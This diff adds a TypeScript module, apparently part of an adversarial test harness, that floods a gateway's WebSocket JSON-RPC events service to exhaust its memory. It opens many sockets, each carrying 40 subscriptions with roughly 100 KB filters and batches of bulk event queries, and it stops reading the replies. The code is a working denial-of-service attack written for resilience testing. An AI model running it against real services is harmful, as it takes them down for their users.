@@ -1,0 +1,68 @@
+import { once } from 'node:events';
+import { WebSocket } from 'ws';
+import type { AttackClient } from '../attack-client.js';
+import type { Attacker } from '../attacker.js';
+
+const OPEN_MS = 5_000;
+const HOLD_MS = 8_000;
+const SUBSCRIPTIONS = 40;
+const CALLS_IN_BATCH = 50;
+const BATCHES = 4;
+const FILTER_TERMS = 900;
+
+/** A filter of about 100 KB whose field paths are all different. */
+function largeFilter(mark: number) {
+  const terms = Array.from({ length: FILTER_TERMS }, (_, at) => ({
+    MoveEventField: { path: `/${'x'.repeat(60)}${mark}/${at}`, value: at },
+  }));
+  return { Any: terms };
+}
+
+const request = (id: number, method: string, params: unknown[]) => {
+  return { jsonrpc: '2.0', id, method, params };
+};
+
+async function open(url: string, client: AttackClient): Promise<WebSocket> {
+  const socket = new WebSocket(`${url.replace('http', 'ws')}/rpc`, {
+    localAddress: client.from,
+    handshakeTimeout: OPEN_MS,
+  });
+  socket.on('close', (code) => client.answers.note(`socket closed ${code}`));
+  try {
+    await once(socket, 'open');
+  } catch (error) {
+    socket.on('error', () => undefined);
+    throw error;
+  }
+  socket.on('error', () => undefined);
+  return socket;
+}
+
+/** Subscribes with filters that cost much to keep and to compare, asks for much at once and reads none of it. */
+export const floodSubscriptions: Attacker = {
+  name: 'flood-subscriptions',
+  aim: 'use up the memory of the events service',
+  async run({ gatewayUrl }, client, signal) {
+    let mark = 0;
+    await client.repeat(500, async () => {
+      const socket = await open(gatewayUrl, client);
+      const leave = () => socket.terminate();
+      signal.addEventListener('abort', leave, { once: true });
+      try {
+        const filters = Array.from({ length: SUBSCRIPTIONS }, (_, at) =>
+          request(at + 1, 'ledger_subscribeEvent', [largeFilter(mark++)]),
+        );
+        for (const subscribe of filters) socket.send(JSON.stringify(subscribe));
+        const pages = Array.from({ length: CALLS_IN_BATCH }, (_, at) =>
+          request(1_000 + at, 'ledger_getEvents', ['All', null, 1_000]),
+        );
+        for (let sent = 0; sent < BATCHES; sent++) socket.send(JSON.stringify(pages));
+        socket.pause();
+        await client.pause(HOLD_MS);
+      } finally {
+        signal.removeEventListener('abort', leave);
+        leave();
+      }
+    });
+  },
+};
